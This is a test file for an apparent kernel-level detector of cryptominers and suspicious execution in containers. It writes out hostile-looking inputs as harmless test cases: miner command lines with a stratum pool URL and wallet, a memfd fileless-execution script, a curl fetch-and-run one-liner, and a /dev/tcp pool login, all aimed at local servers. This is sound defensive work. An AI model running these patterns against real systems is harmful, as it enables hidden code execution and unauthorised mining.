import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { chmodSync, readFileSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { Value } from 'typebox/value';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Detection } from '../../api/detection.ts';
import { findHierarchies } from '../../runtime/cgroup-tree.ts';
import { readCpu } from '../../runtime/cpu-accounting.ts';
import { Arena, whyNoKernel } from './arena.ts';

const reason = whyNoKernel();
const WALLET =
  '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';

describe.skipIf(reason)(`detection on this kernel${reason ? ` (${reason})` : ''}`, () => {
  let arena: Arena;
  beforeAll(async () => {
    arena = await Arena.open();
  });
  afterAll(() => arena?.[Symbol.asyncDispose]());

  const sha256 = (file: string) => createHash('sha256').update(readFileSync(file)).digest('hex');

  it('reports a program named like a miner with everything that is known about it', async () => {
    const xmrig = arena.standIn('xmrig');
    await arena.run([xmrig, '0.2']);
    const detection = await arena.detected(({ process }) => process.exe === xmrig && process.sha256 !== null);
    expect(Value.Check(Detection, detection)).toBe(true);
    expect(detection).toMatchObject({
      rule: 'miner-name',
      severity: 'critical',
      action: 'none',
      process: { argv: [xmrig, '0.2'], uid: 0, sha256: sha256(xmrig) },
      container: { cgroup: arena.path, id: null, podUid: null },
      repeats: 0,
    });
    expect(Math.abs(Date.parse(detection.time) - Date.now())).toBeLessThan(10_000);
  });

  it('names the container and its ancestors', async () => {
    const id = 'd'.repeat(64);
    const uid = '0f4fd2c2-7f1a-4a0b-9a3e-0c9b0f7c1d2e';
    const cgroup = arena.child(`kubepods/besteffort/pod${uid}/${id}`);
    const xmrig = arena.standIn('xmrig');
    await arena.run(['/bin/sh', '-c', `'${xmrig}' 0.1 ancestry; true`], { cgroup });
    const { container, process } = await arena.detected(
      ({ process }) => process.argv.includes('ancestry') && process.exe === xmrig,
    );
    expect(container).toMatchObject({ id, podUid: uid, namespace: null, pod: null });
    expect(process.ancestors[0]?.argv).toContain('-c');
  });

  it('counts the same program as one detection', async () => {
    const xmrig = arena.standIn('xmrig');
    for (let count = 0; count < 20; count++) await arena.run([xmrig, '0', 'again']);
    const last = await arena.detected(
      ({ process, repeats }) => process.argv.includes('again') && repeats === 19,
    );
    const ids = arena.detections.filter(({ process }) => process.argv.includes('again')).map(({ id }) => id);
    expect(new Set(ids)).toEqual(new Set([last.id]));
  });

  it('is not fooled by another name when the arguments are those of a miner', async () => {
    const nginx = arena.standIn('nginx');
    await arena.run([nginx, '-o', 'stratum+tcp://pool.example:3333', '-u', WALLET, '-p', 'x']);
    const { evidence } = await arena.detected(({ process }) => process.exe === nginx);
    expect(JSON.stringify(evidence.findings)).toContain('stratum-url');
  });

  it('reads arguments behind any padding', async () => {
    const worker = arena.standIn('worker', '/bin/bash');
    const padding = Array.from({ length: 3000 }, (_, index) => `--label=${index}`);
    arena.start([worker, '-c', 'sleep 1; true', ...padding, '--url=stratum+tcp://pool.example:3333']);
    const { process, evidence } = await arena.detected(({ process }) => process.exe === worker);
    expect(JSON.stringify(evidence.findings)).toContain('stratum-url');
    expect(process.argv).toHaveLength(256);
    expect(process.argv.at(-1)).toBe('--url=stratum+tcp://pool.example:3333');
  });

  it('sees the name of a script, and of a symbolic link', async () => {
    const script = join(arena.folder, 'minerd');
    writeFileSync(script, '#!/bin/sh\nsleep 0\n');
    chmodSync(script, 0o755);
    await arena.run([script]);
    await arena.detected(({ process, rule }) => rule === 'miner-name' && process.argv.includes(script));
    const link = join(arena.folder, 'helper');
    execFileSync('ln', ['-s', arena.standIn('xmrig'), link]);
    await arena.run([link, '0', 'linked']);
    await arena.detected(({ process, rule }) => rule === 'miner-name' && process.argv.includes('linked'));
  });

  it('sees programs that exist in memory only, with their hash', async () => {
    const script = [
      'import os',
      'fd = os.memfd_create("x", 0)',
      'os.write(fd, open("/bin/sleep", "rb").read())',
      'os.execve(fd, ["quiet", "0.3"], {})',
    ].join('\n');
    await arena.run(['python3', '-c', script]);
    const { process } = await arena.detected(({ rule }) => rule === 'memory-executable');
    expect(process).toMatchObject({ argv: ['quiet', '0.3'], sha256: sha256('/bin/sleep') });
  });

  it('sees a download that is executed', async () => {
    const server = createServer((socket) => {
      socket.end('HTTP/1.0 200 OK\r\nContent-Length: 16\r\n\r\n#!/bin/sh\nexit 0');
      socket.on('error', () => {});
    });
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    const { port } = server.address() as AddressInfo;
    const fetch = `curl -s -o ./job http://127.0.0.1:${port}/job; chmod +x ./job; ./job; true`;
    await arena.run(['/bin/sh', '-c', fetch]);
    server.close();
    const { evidence } = await arena.detected(({ evidence }) =>
      JSON.stringify(evidence).includes(`127.0.0.1:${port}/job`),
    );
    expect(JSON.stringify(evidence.findings)).toContain('remote-script');
  });

  it('recognises the pool protocol on any port, and says nothing about other traffic', async () => {
    const pool = createServer((socket) => {
      socket.on('error', () => {});
      socket.on('data', () => socket.end());
    });
    pool.listen(0, '127.0.0.1');
    await once(pool, 'listening');
    const { port } = pool.address() as AddressInfo;
    const speak = (name: string, line: string) =>
      arena.run([
        arena.standIn(name, '/bin/bash'),
        '-c',
        `exec 3<>/dev/tcp/127.0.0.1/${port}; echo '${line}' >&3; read -t 2 x <&3; true`,
      ]);
    await speak('chatty', '{"id":1,"method":"login","user":"me"}');
    await speak(
      'worker2',
      `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"${WALLET}","pass":"x","agent":"XMRig/6.21.0"}}`,
    );
    const { process, evidence } = await arena.detected(({ rule }) => rule === 'pool-protocol');
    pool.close();
    expect(process.exe).toContain('worker2');
    expect(evidence).toMatchObject({
      protocol: 'stratum',
      methods: ['login'],
      destinations: [{ address: '127.0.0.1', port }],
    });
    expect(JSON.stringify(arena.detections)).not.toContain('chatty');
  });

  it('accounts CPU time to a cgroup', async () => {
    const { cpu } = findHierarchies('/proc');
    const before = readCpu(cpu, arena.path, 0);
    await arena.run(['/bin/bash', '-c', 'for ((i = 0; i < 200000; i++)); do :; done']);
    const after = readCpu(cpu, arena.path, 0);
    expect((after?.usage ?? 0) - (before?.usage ?? 0)).toBeGreaterThan(50_000);
    expect(after?.allowed).toBeGreaterThan(0);
  });

  it('says nothing about ordinary work', async () => {
    await arena.settled();
    const before = arena.detections.length;
    const work =
      'for i in 1 2 3; do ls / | grep -c e; done; tar -cf /dev/null /etc/hostname; python3 -c "print(1)"; date';
    await arena.run(['/bin/bash', '-c', work]);
    await arena.run(['/bin/grep', '-r', 'xmrig', '/etc/hostname']);
    await arena.settled();
    const marked = arena.detections
      .slice(before)
      .filter(({ process }) => !process.argv.some((argument) => argument.startsWith('marker-')));
    expect(marked).toEqual([]);
  });

  it('loses no event', () => {
    expect(Object.values(arena.agent.stats().sensor.dropped).every((count) => count === 0)).toBe(true);
  });
});

describe.skipIf(reason)(`what is left in the kernel${reason ? ` (${reason})` : ''}`, () => {
  it('is nothing', async () => {
    const programs = () =>
      (
        JSON.parse(execFileSync('bpftool', ['-j', 'prog', 'show'], { encoding: 'utf8' })) as { id: number }[]
      ).map(({ id }) => id);
    const before = new Set(programs());
    const arena = await Arena.open();
    const ours = new Set(programs().filter((id) => !before.has(id)));
    expect(ours.size).toBeGreaterThan(5);
    await arena[Symbol.asyncDispose]();
    await expect.poll(() => programs().filter((id) => ours.has(id)), { timeout: 5000 }).toEqual([]);
  });
});
